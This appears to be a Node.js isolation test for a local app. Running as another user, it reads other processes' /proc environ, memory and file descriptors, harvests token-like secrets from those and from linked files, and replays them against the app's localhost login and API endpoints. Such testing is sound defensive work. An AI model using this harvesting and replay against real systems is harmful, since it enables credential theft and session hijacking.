// What another user of the computer can do: reads what the process list shows of everybody, follows every path in it, and tries to
// get in with all it has found. Prints what came of it as JSON. Run as that user, with the text of this file on its standard input.
// usage: node - MARK PORT [cmdline]   (MARK: part of the command lines to be looked at; `cmdline`: only these, which everybody may read)
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';

const [mark, port, only] = process.argv.slice(2);
const found = new Map();
const readable = [];
const read = (file) => {
  try {
    if (!fs.statSync(file).isFile()) return;
    found.set(file, fs.readFileSync(file, 'latin1').slice(0, 1_000_000));
    readable.push(file);
  } catch {}
};
const readAll = (folder, depth = 3) => {
  let entries = [];
  try {
    entries = fs.readdirSync(folder, { withFileTypes: true });
  } catch {}
  for (const entry of entries.slice(0, 200)) {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory() && depth > 0) readAll(file, depth - 1);
    else read(file);
  }
};

const shown = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid);
for (const pid of shown) {
  const place = `/proc/${pid}`;
  read(`${place}/cmdline`);
  if (!found.get(`${place}/cmdline`)?.includes(mark)) {
    found.delete(`${place}/cmdline`);
    continue;
  }
  if (only) continue;
  for (const name of ['environ', 'maps', 'mem', 'stack', 'auxv', 'io', 'status', 'comm']) read(`${place}/${name}`);
  for (const name of ['cwd', 'root', 'exe']) {
    try {
      found.set(`${place}/${name}`, fs.readlinkSync(`${place}/${name}`));
    } catch {}
  }
  readAll(`${place}/fd`, 0);
}
const paths = [...found.values()].flatMap((text) => text.match(/\/[^\0\s"'=]{3,}/g) ?? []);
for (const name of only ? [] : new Set(paths)) {
  const file = decodeURI(name.replace(/^\/\/+/, '/'));
  read(file);
  readAll(file);
  readAll(path.dirname(file), 1);
}
if (!only) {
  for (const name of fs.readdirSync('/tmp').filter((entry) => entry.startsWith('groundwork-launch-'))) {
    readAll(path.join('/tmp', name));
  }
}

const secrets = new Set([...found.values()].flatMap((text) => text.match(/(?<![\w-])[\w-]{43}(?![\w-])/g) ?? []));
const ports = fs
  .readFileSync('/proc/net/tcp', 'latin1')
  .split('\n')
  .flatMap((line) => / 0100007F:([0-9A-F]{4}) 00000000:0000 0A /.exec(line)?.[1] ?? [])
  .map((port) => Number.parseInt(port, 16));

const ask = (port, method, where, headers, body) =>
  new Promise((resolve) => {
    const request = http.request(
      { host: '127.0.0.1', port, method, path: where, headers, agent: false, timeout: 20_000 },
      (response) => {
        let text = '';
        response.on('data', (chunk) => (text += chunk));
        response.on('end', () => resolve({ status: response.statusCode, text }));
      },
    );
    request.on('error', () => resolve({ status: 0, text: '' }));
    request.on('timeout', () => request.destroy());
    request.end(body);
  });

const entered = [];
const call = JSON.stringify({ method: 'app.info', input: {} });
const listening = ports.filter((known) => known === Number(port));
for (const port of listening) {
  const origin = `http://127.0.0.1:${port}`;
  // Each guess is made to wait, so that without any secret one is enough.
  for (const secret of secrets.size > 0 ? [...secrets].slice(0, 10) : ['']) {
    const door = await ask(port, 'POST', '/enter', { origin, 'sec-fetch-site': 'same-origin' }, secret);
    if (door.status === 200 && door.text.includes('session')) entered.push(`${port} by ${secret}`);
    const headers = { origin, 'content-type': 'application/json', 'x-groundwork-session': secret };
    const answer = await ask(port, 'POST', '/api', headers, call);
    if (answer.status === 200) entered.push(`${port} called with ${secret}`);
  }
}
const environs = readable.filter((file) => file.endsWith('/environ'));
console.log(
  JSON.stringify({
    uid: process.getuid(),
    processes: [...found.keys()].filter((file) => file.endsWith('/cmdline')).length,
    environs,
    readable: readable.filter((file) => !file.startsWith('/proc/')),
    secrets: secrets.size,
    ports: listening,
    entered,
  }),
);
